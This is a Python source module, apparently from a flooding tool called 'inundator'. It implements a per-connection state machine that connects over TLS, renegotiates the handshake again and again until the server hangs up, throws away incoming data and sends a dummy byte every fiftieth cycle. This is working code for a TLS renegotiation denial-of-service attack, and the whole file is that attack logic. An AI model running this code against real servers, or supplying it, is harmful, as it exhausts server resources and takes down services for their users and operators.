import socket
from dataclasses import replace
from typing import Callable

from inundator.core.models import RunConfig
from inundator.core.multiplexer import Interest, ReadinessEvent
from inundator.core.stats import StatisticsAggregator
from inundator.core.tls import (
    TLSError,
    TLSSession,
    TLSWant,
    TLSWantRead,
    TLSWantWrite,
)
from inundator.errors import BootstrapError, RenegotiationUnsupported

from .peer import Peer
from .peer_state import TLSPeerState
from .sockets import (
    IN_PROGRESS,
    AddressInfo,
    Connector,
    open_connection,
    pending_connect_error,
)
from .step_result import CONTINUE, HANGUP, StepResult

SessionFactory = Callable[[socket.socket], TLSSession]

DUMMY_BYTE = b"\x00"
DRAIN_SIZE = 1024


class TLSPeerMachine:
    """
    Handshake/renegotiation cycling. Each connection renegotiates as soon
    as the previous handshake completes, with a one-byte write every Nth
    completion, until the server drops it.
    """

    initial_state = TLSPeerState.TCP_CONNECTING
    idle_state = TLSPeerState.IDLE

    def __init__(
        self,
        config: RunConfig,
        stats: StatisticsAggregator,
        address_info: AddressInfo,
        session_factory: SessionFactory,
        dummy_write_interval: int = 50,
        connector: Connector = open_connection,
    ) -> None:
        self._endpoint = config.endpoint
        self._stats = stats
        self._address_info = address_info
        self._max_requests = config.max_requests
        self._session_factory = session_factory
        self._dummy_write_interval = max(1, dummy_write_interval)
        self._connector = connector

    def is_connecting(self, peer: Peer):
        return peer.state in (
            TLSPeerState.TCP_CONNECTING,
            TLSPeerState.TLS_CONNECTING,
        )

    def is_established(self, peer: Peer):
        return peer.socket is not None and peer.state > TLSPeerState.TCP_CONNECTING

    def advance(
        self,
        peer: Peer,
        now: float,
    ) -> StepResult:
        peer.advance = False

        match peer.state:
            case TLSPeerState.TCP_CONNECTING:
                if peer.socket is None:
                    return self._connect(peer, now)

                return CONTINUE

            case TLSPeerState.TLS_HANDSHAKING:
                return self._renegotiate(peer)

            case TLSPeerState.DUMMY_WRITING:
                return self._dummy_write(peer)

            case _:
                return CONTINUE

    def step(
        self,
        peer: Peer,
        event: ReadinessEvent,
    ) -> StepResult:
        if peer.state == TLSPeerState.TCP_CONNECTING:
            return self._finish_connect(peer, event)

        if event.hangup or event.error:
            return HANGUP

        match peer.state:
            case TLSPeerState.TLS_CONNECTING:
                return self._tls_connect(peer)

            case TLSPeerState.TLS_HANDSHAKING:
                if peer.pending > 0:
                    return self._renegotiation_io(peer)

                return self._idle_read(peer)

            case TLSPeerState.DUMMY_WRITING:
                if event.writable:
                    return self._dummy_write(peer)

                return CONTINUE

            case _:
                return CONTINUE

    def _connect(
        self,
        peer: Peer,
        now: float,
    ):
        sock, result = self._connector(self._address_info)

        peer.socket = sock
        peer.connect_started = now
        peer.state = TLSPeerState.TCP_CONNECTING

        if result in IN_PROGRESS:
            peer.interest = Interest.WRITE
            return CONTINUE

        return self._connect_result(peer, result)

    def _finish_connect(
        self,
        peer: Peer,
        event: ReadinessEvent,
    ):
        result = event.error_code or pending_connect_error(peer.socket)
        if result in IN_PROGRESS:
            return CONTINUE

        return self._connect_result(peer, result)

    def _connect_result(
        self,
        peer: Peer,
        result: int,
    ):
        if result != 0:
            if self._stats.connections == 0:
                raise BootstrapError(
                    "TCP connect failed, target unreachable",
                    errno=result,
                    target=str(self._endpoint),
                )

            return HANGUP

        self._stats.record_connection()

        first_connect = not peer.connected_once
        peer.connected_once = True

        peer.session = self._session_factory(peer.socket)
        peer.state = TLSPeerState.TLS_CONNECTING

        return replace(
            self._tls_connect(peer),
            first_connect=first_connect,
        )

    def _tls_connect(self, peer: Peer):
        try:
            peer.session.do_handshake()

        except TLSWantRead:
            peer.interest = Interest.READ
            return CONTINUE

        except TLSWantWrite:
            peer.interest = Interest.WRITE
            return CONTINUE

        except TLSError as err:
            if self._stats.tls_connects == 0:
                raise BootstrapError(
                    "TLS handshake failed, target does not look like TLS",
                    cause=err,
                    target=str(self._endpoint),
                )

            return HANGUP

        self._stats.record_tls_connect()
        self._await_next(peer, TLSPeerState.TLS_HANDSHAKING)

        return CONTINUE

    def _renegotiate(self, peer: Peer):
        if not self._stats.within_budget(self._max_requests):
            return CONTINUE

        try:
            requested = peer.session.renegotiate()

        except TLSError as err:
            return self._renegotiation_refused(peer, err)

        if not requested:
            return self._renegotiation_refused(peer)

        peer.pending += 1
        self._stats.record_attempt()

        return self._renegotiation_io(peer)

    def _renegotiation_refused(
        self,
        peer: Peer,
        cause: BaseException | None = None,
    ):
        if self._stats.completions == 0:
            raise RenegotiationUnsupported(
                "Renegotiation request failed, the connection may be TLS 1.3",
                cause=cause,
                peer_id=peer.peer_id,
            )

        return HANGUP

    def _renegotiation_io(self, peer: Peer):
        self._drain(peer)

        try:
            peer.session.do_handshake()

        except TLSWantRead:
            peer.interest = Interest.READ
            return CONTINUE

        except TLSWantWrite:
            peer.interest = Interest.WRITE
            return CONTINUE

        except TLSError as err:
            if self._stats.completions == 0:
                raise RenegotiationUnsupported(
                    "Renegotiation failed, the server does not allow it",
                    cause=err,
                    target=str(self._endpoint),
                )

            return HANGUP

        peer.pending = max(0, peer.pending - 1)
        peer.renegotiations += 1
        self._stats.record_completions(1)

        if peer.renegotiations % self._dummy_write_interval == 0:
            self._await_next(peer, TLSPeerState.DUMMY_WRITING)

        else:
            self._await_next(peer, TLSPeerState.TLS_HANDSHAKING)

        return CONTINUE

    def _drain(self, peer: Peer):
        """Discard application data the server sent mid-renegotiation."""
        while True:
            try:
                data = peer.session.recv(DRAIN_SIZE)

            except (TLSWant, TLSError):
                return

            if len(data) == 0:
                return

    def _idle_read(self, peer: Peer):
        """
        Read while no renegotiation is in flight, which is the case once
        the request budget is spent. Data is discarded and a close recycles
        the peer.
        """
        try:
            while len(peer.session.recv(DRAIN_SIZE)) > 0:
                pass

        except TLSWant:
            return CONTINUE

        except TLSError:
            return HANGUP

        return HANGUP

    def _dummy_write(self, peer: Peer):
        peer.state = TLSPeerState.DUMMY_WRITING

        try:
            peer.session.send(DUMMY_BYTE)

        except TLSWantWrite:
            peer.interest = Interest.WRITE
            return CONTINUE

        except TLSWantRead:
            peer.interest = Interest.READ
            return CONTINUE

        except TLSError:
            return HANGUP

        self._await_next(peer, TLSPeerState.TLS_HANDSHAKING)

        return CONTINUE

    def _await_next(
        self,
        peer: Peer,
        state: TLSPeerState,
    ):
        peer.state = state
        peer.advance = True
        peer.interest = Interest.READ
